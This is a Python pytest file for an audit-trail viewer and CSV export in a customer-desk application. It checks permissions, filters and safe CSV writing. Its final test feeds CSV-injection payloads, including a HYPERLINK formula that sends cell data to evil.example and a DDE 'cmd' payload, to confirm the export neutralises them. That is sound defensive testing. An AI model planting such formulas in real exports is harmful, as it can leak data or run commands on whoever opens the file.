"""Reading and exporting the audit trail (supervisors only), on both engines."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from agent_desk.demo import load_demo
from agent_desk.errors import PermissionDeniedError, ValidationError
from agent_desk.models import Agent, AuditEvent, Customer
from agent_desk.services.actor import actor_for_login
from agent_desk.services.audit import audit
from agent_desk.services.audit_view import CSV_HEADER, audit_events, export_audit_csv
from agent_desk.services.database import Database

TODAY = date(2026, 11, 23)
NOW = datetime.combine(TODAY, time(15, 0), tzinfo=UTC)


@pytest.fixture
def trail(database: Database) -> tuple[Database, list[str]]:
    """Demo data plus a few known events: Sanne views two customers, Daan changes one."""
    with database.transaction() as session:
        load_demo(session, customers=40, agents=3, seed=5, today=TODAY)
        session.flush()
        session.query(AuditEvent).delete()
        customers = session.execute(
            select(Customer.id, Customer.customer_number).order_by(Customer.id).limit(2)
        ).all()
        sanne = actor_for_login(session, "sanne")
        daan = actor_for_login(session, "daan")
        first, second = customers
        audit(session, sanne, "view", "customer", first[0], customer_id=first[0], at=NOW)
        audit(
            session,
            sanne,
            "view",
            "customer",
            second[0],
            customer_id=second[0],
            at=NOW + timedelta(minutes=1),
        )
        audit(
            session,
            daan,
            "update",
            "customer",
            first[0],
            customer_id=first[0],
            detail='phone "06-1234", verified',
            at=NOW - timedelta(days=2),
        )
    return database, [first[1], second[1]]


def test_supervisors_read_the_trail_newest_first(trail: tuple[Database, list[str]]) -> None:
    database, numbers = trail
    with database.transaction() as session:
        marieke = actor_for_login(session, "marieke")
        rows = audit_events(session, marieke)
    assert [(r.login, r.action, r.customer_number) for r in rows] == [
        ("sanne", "view", numbers[1]),
        ("sanne", "view", numbers[0]),
        ("daan", "update", numbers[0]),
    ]
    assert rows[0].who == "Sanne de Vries"
    assert rows[0].when == NOW + timedelta(minutes=1)
    assert rows[2].detail == 'phone "06-1234", verified'


def test_filters_combine(trail: tuple[Database, list[str]]) -> None:
    database, numbers = trail
    with database.transaction() as session:
        marieke = actor_for_login(session, "marieke")
        by_customer = audit_events(session, marieke, customer_number=numbers[0])
        by_agent = audit_events(session, marieke, agent_login="DAAN")
        recent = audit_events(session, marieke, since=NOW - timedelta(hours=1))
        older = audit_events(session, marieke, until=NOW - timedelta(hours=1))
        both = audit_events(session, marieke, customer_number=numbers[0], agent_login="sanne")
        paged = audit_events(session, marieke, limit=1, offset=1)
        nobody = audit_events(session, marieke, customer_number="NOPE")
    assert len(by_customer) == 2 and {r.customer_number for r in by_customer} == {numbers[0]}
    assert [r.action for r in by_agent] == ["update"]
    assert len(recent) == 2 and len(older) == 1
    assert [(r.login, r.customer_number) for r in both] == [("sanne", numbers[0])]
    assert len(paged) == 1 and paged[0].customer_number == numbers[0]
    assert nobody == []


def test_agents_cannot_read_or_export(trail: tuple[Database, list[str]], tmp_path: Path) -> None:
    database, _numbers = trail
    with database.transaction() as session:
        sanne = actor_for_login(session, "sanne")
        with pytest.raises(PermissionDeniedError):
            audit_events(session, sanne)
        with pytest.raises(PermissionDeniedError):
            export_audit_csv(session, sanne, tmp_path / "trail.csv")
    assert not (tmp_path / "trail.csv").exists()


def test_an_empty_period_is_explained(trail: tuple[Database, list[str]]) -> None:
    database, _numbers = trail
    with database.transaction() as session:
        marieke = actor_for_login(session, "marieke")
        with pytest.raises(ValidationError) as raised:
            audit_events(session, marieke, since=NOW, until=NOW - timedelta(days=1))
    assert raised.value.field == "since"


def test_the_export_writes_utf8_csv_atomically_and_is_audited(
    trail: tuple[Database, list[str]], tmp_path: Path
) -> None:
    database, numbers = trail
    target = tmp_path / "trail.csv"
    target.write_text("old content", encoding="utf-8")
    with database.transaction() as session:
        marieke = actor_for_login(session, "marieke")
        count = export_audit_csv(session, marieke, target, agent_login="sanne")
    assert count == 2
    with target.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    assert tuple(rows[0]) == CSV_HEADER
    assert [(r[2], r[3], r[5]) for r in rows[1:]] == [
        ("sanne", "view", numbers[1]),
        ("sanne", "view", numbers[0]),
    ]
    assert rows[1][0] == (NOW + timedelta(minutes=1)).isoformat()
    assert not [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"]  # none left
    with database.transaction() as session:
        exports = session.scalar(
            select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "export")
        )
    assert exports == 1


def test_a_quote_and_a_comma_survive_the_round_trip(
    trail: tuple[Database, list[str]], tmp_path: Path
) -> None:
    database, _numbers = trail
    target = tmp_path / "daan.csv"
    with database.transaction() as session:
        marieke = actor_for_login(session, "marieke")
        export_audit_csv(session, marieke, target, agent_login="daan")
    with target.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[1][6] == 'phone "06-1234", verified'


def test_a_missing_folder_is_refused(trail: tuple[Database, list[str]], tmp_path: Path) -> None:
    database, _numbers = trail
    with database.transaction() as session:
        marieke = actor_for_login(session, "marieke")
        with pytest.raises(ValidationError):
            export_audit_csv(session, marieke, tmp_path / "nowhere" / "trail.csv")


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_the_export_never_hands_a_spreadsheet_a_formula(
    trail: tuple[Database, list[str]], tmp_path: Path, hostile: str
) -> None:
    """OWASP CSV injection: a name or detail starting with = + - @ (or tab/CR) is
    written as text, with a leading quote, and reads back as what was stored."""
    database, _numbers = trail
    with database.transaction() as session:
        daan = session.scalars(select(Agent).where(Agent.login == "daan")).one()
        daan.display_name = hostile
        audit(
            session,
            actor_for_login(session, "daan"),
            "view",
            "customer",
            None,
            detail=hostile,
            at=NOW,
        )
    target = tmp_path / "hostile.csv"
    with database.transaction() as session:
        export_audit_csv(session, actor_for_login(session, "marieke"), target, agent_login="daan")
    with target.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))[1:]
    assert rows, "the events were exported"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[0][1] == "'" + hostile and rows[0][6] == "'" + hostile
